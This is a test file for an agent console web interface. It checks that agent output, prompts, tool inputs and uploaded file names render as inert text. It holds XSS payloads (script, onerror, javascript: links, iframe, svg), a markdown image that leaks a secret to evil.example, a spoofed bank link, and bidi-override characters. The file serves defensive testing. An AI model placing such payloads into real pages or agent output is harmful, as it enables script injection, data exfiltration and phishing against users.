import { expect, test } from 'vitest';
import { begin, ended, pendingIn, runIn } from '../../../server/test/support/api-steps.ts';
import { consoleAgents } from './support/agents.ts';
import { consoleTests } from './support/console-tests.ts';

const web = consoleTests({ agents: consoleAgents });

const attacks = [
  '<script>globalThis.taken = 1</script>',
  '<img src=x onerror="globalThis.taken = 1">',
  '![leak](https://evil.example/?q=secret)',
  '[click](javascript:globalThis.taken=1)',
  '<iframe srcdoc="<script>top.taken=1</script>"></iframe>',
  '<svg onload="globalThis.taken = 1"></svg>',
  '[https://bank.example](https://evil.example/login)',
];
const hostile = attacks.join('\n\n');

test('what an agent says is text: no script runs, nothing is loaded, links show where they lead', async () => {
  const { run } = await begin(web.server, 'echo', hostile);
  await ended(web.server, run);
  const page = await web.visit(`${web.tenant}/runs/${run.id}`);
  const talk = page.getByRole('log');
  await talk.locator('.marks').first().waitFor();
  for (const text of ['<script>', '[image leak: https://evil.example/?q=secret]', '<iframe']) {
    await talk.locator('.marks').getByText(text).first().waitFor();
  }
  await talk.locator('.marks a').waitFor();
  expect(await talk.locator('script, iframe, img, svg').count()).toBe(0);
  const links = await talk
    .locator('.marks a')
    .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
  expect(links).toEqual([['https://evil.example/login', 'noopener noreferrer nofollow']]);
  expect(await talk.textContent()).toContain('https://bank.example (evil.example)');
  for (const tab of ['Timeline', 'Input and output', 'Raw']) {
    const link = page.getByRole('link', { name: new RegExp(`^${tab}`) });
    await link.click();
    await link.and(page.locator('[aria-current]')).waitFor();
    await page.getByText('<script>').first().waitFor();
  }
  expect(await page.evaluate('globalThis.taken')).toBeUndefined();
});

test('a prompt with markup is text in every list', async () => {
  const { run } = await begin(web.server, 'failing', '<b id="injected">bold</b>');
  await ended(web.server, run);
  const page = await web.visit(`${web.tenant}/runs`);
  await page.getByRole('link', { name: '<b id="injected">bold</b>' }).first().waitFor();
  expect(await page.locator('#injected').count()).toBe(0);
});

test('no text of an agent can turn around what stands beside it, in a list or in an attribute (D-300)', async () => {
  const { run } = await begin(web.server, 'echo', 'turned \u202eround\u2066 here');
  await ended(web.server, run);
  const shown = 'turned ⟨U+202E⟩round⟨U+2066⟩ here';
  const page = await web.visit(`${web.tenant}/runs`);
  await page.getByRole('link', { name: shown }).waitFor();
  await page.goto(`${web.server.baseUrl}${web.tenant}/runs/${run.id}`);
  await page.getByRole('log').getByText(shown).first().waitFor();
  await page.getByRole('heading', { level: 1, name: shown }).waitFor();
  await expect.poll(() => page.title()).toContain(shown);
  const raw = await page.evaluate<boolean>(
    '/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.documentElement.outerHTML)',
  );
  expect(raw).toBe(false);
});

test('a tool input cannot look like another one: what turns text around is made visible', async () => {
  const { run } = await begin(web.server, 'writer', 'pay \u202e00001 to bob <img src=x>');
  await runIn(web.server, run, 'waiting');
  const { interaction_key: key } = await pendingIn(web.server, run.session_id);
  const page = await web.visit(`${web.tenant}/approvals?item=${key}`);
  await page.getByText('pay ⟨U+202E⟩00001 to bob <img src=x>').first().waitFor();
  expect(await page.locator('.ask img').count()).toBe(0);
});

test('the name of a file is text, and a file of any type is never a page', async () => {
  const { run } = await begin(web.server, 'echo', 'hello');
  await ended(web.server, run);
  const page = await web.visit(`${web.tenant}/sessions/${run.session_id}`);
  const name = '<img src=x onerror=alert(1)>.html';
  await page.getByLabel('Files to upload').setInputFiles({
    name,
    mimeType: 'text/html',
    buffer: Buffer.from('<script>parent.taken = 1</script>'),
  });
  await page.getByRole('button', { name, exact: true }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('<script>parent.taken = 1</script>').waitFor();
  expect(await page.locator('iframe, object, embed, dialog img').count()).toBe(0);
  expect(await page.evaluate('globalThis.taken')).toBeUndefined();
});
